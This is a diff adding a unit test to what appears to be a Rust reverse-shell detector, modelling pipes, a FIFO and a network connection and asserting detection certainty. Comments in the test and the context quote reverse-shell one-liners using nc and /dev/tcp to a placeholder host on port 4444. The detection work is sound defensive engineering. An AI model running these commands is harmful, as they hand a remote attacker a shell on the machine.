@@ -129,6 +129,18 @@ fn filters_in_between() {
 }
 
 #[test]
+fn filters_with_a_fifo_of_their_own() {
+    // cat f | sh | tee log | nc A 4444 >f
+    let fifo = Object::Pipe(30, 5);
+    let world = World::new()
+        .with(OTHER, &[(0, pipe(9), "r"), (1, pipe(1), "w"), (3, fifo, "r")])
+        .with(SHELL, &[(0, pipe(1), "r"), (1, pipe(2), "w")])
+        .with(OTHER, &[(0, pipe(2), "r"), (1, pipe(3), "w")])
+        .with(OTHER, &[(0, pipe(3), "r"), (1, fifo, "w"), (3, CONNECTION, "rw")]);
+    assert_eq!(world.certainty(), SURE);
+}
+
+#[test]
 fn a_loop_that_reads_from_the_connection_and_writes_to_a_descriptor_of_it() {
     // exec 5<>/dev/tcp/A/4444; cat <&5 | while read line; do $line >&5; done
     let world = World::new()
